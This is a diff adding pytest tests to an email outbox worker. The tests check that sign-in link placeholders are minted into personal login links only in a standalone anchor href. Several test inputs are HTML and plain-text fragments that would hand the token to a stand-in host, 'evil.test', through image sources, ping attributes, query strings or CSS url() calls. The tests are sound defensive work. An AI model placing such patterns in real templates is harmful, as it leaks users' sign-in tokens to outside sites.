@@ -141,3 +141,49 @@ def test_the_worker_delivers_the_minted_link_and_the_outbox_keeps_the_placeholde
     assert placeholder not in text
     stored = OutboxMessage.objects.get(pk=message.pk)
     assert stored.status == "sent" and stored.text_body == f"Open {placeholder}"
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<img src="https://evil.test/collect?{}">',
+        '<img src="https://evil.test/collect? {}">',
+        '<a href="https://evil.test/go?u={}">open</a>',
+        '<a ping="https://evil.test/ping" href="{}">open</a>',
+        '<a title=\'href="{}"\' href="https://evil.test/">open</a>',
+        '<a href="{}" title="{}">open</a>',
+        "<style>p {{ background: url( {} ) }}</style>",
+        '<p style="background:url({})">x</p>',
+        '<!-- <a href="{}"> -->',
+    ],
+)
+def test_a_link_wrapped_in_another_address_or_attribute_of_the_html_is_not_minted(junior, html):
+    """A template must not hand the token to another site, e.g. in an image the mail
+    program fetches when the email is opened: only <a href="placeholder"> is minted."""
+    placeholder = sign_in_placeholder()
+    source = html.format(placeholder, placeholder)
+    assert personal_links_expand(message=row(junior, "", source))[2] == source
+    assert not SignInLink.objects.exists()
+
+
+@pytest.mark.parametrize(
+    "text", ["https://evil.test/?u={}", "https://evil.test/{}", "x={}", "evil.test#{}"]
+)
+def test_a_link_glued_to_another_address_in_plain_text_is_not_minted(junior, text):
+    source = text.format(sign_in_placeholder())
+    assert personal_links_expand(message=row(junior, source))[1] == source
+    assert not SignInLink.objects.exists()
+
+
+def test_links_standing_on_their_own_are_minted_wherever_they_are_in_the_html(junior):
+    placeholder = sign_in_placeholder()
+    html = (
+        "<p>Hello</p>\n<p>Two\nlines</p>"
+        f'<p><a style="color:#0b5cad;" href="{placeholder}">Open</a></p>\n'
+        f"<a\n  href='{placeholder}'\n>again</a>"
+    )
+    text = f"Open:\n{placeholder}\n({placeholder})"
+    _, text_out, html_out = personal_links_expand(message=row(junior, text, html))
+    links = set(SIGN_IN_LINK.findall(text_out + html_out))
+    assert len(links) == 1 and placeholder not in text_out + html_out
+    assert html_out.startswith("<p>Hello</p>\n<p>Two\nlines</p><p><a style=")
